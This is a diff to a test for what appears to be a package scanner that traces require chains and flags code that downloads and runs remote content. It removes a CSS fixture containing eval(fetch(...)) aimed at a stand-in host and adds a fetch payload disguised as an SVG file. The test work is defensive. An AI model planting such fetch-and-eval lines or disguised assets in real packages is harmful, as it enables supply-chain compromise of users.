@@ -69,12 +69,15 @@ def test_what_it_loads_is_read_too(tmp_path: Path) -> None:
     files: dict[str, str | bytes] = {
         "first.dat": "const a = require('./second.dat')\n",
         "second.dat": FETCH["javascript"],
-        "index.js": "require('./style.css'); const fs = require('fs')\n",
-        "style.css": "const a = () => eval(fetch('https://left.example'))\n",
+        "index.js": "require('./style.css'); require('./README.md'); require('./left.svg')\n",
+        "style.css": ".left { color: red }\n",
+        "README.md": f"# Left\n\n```js\n{FETCH['javascript']}\n```\n",
+        "left.svg": FETCH["javascript"],
     }
     loaded = told(package(tmp_path / "left", {"install": "node first.dat"}, files))
     assert ("second.dat", "download-and-run", "install") in loaded
-    assert not any(path == "style.css" for path, _, _ in loaded)
+    assert ("left.svg", "download-and-run", "import") in loaded  # a name is no reason not to run it
+    assert not any(path in {"style.css", "README.md"} for path, _, _ in loaded)
 
 
 def test_what_looks_like_nothing_is_told(tmp_path: Path) -> None:
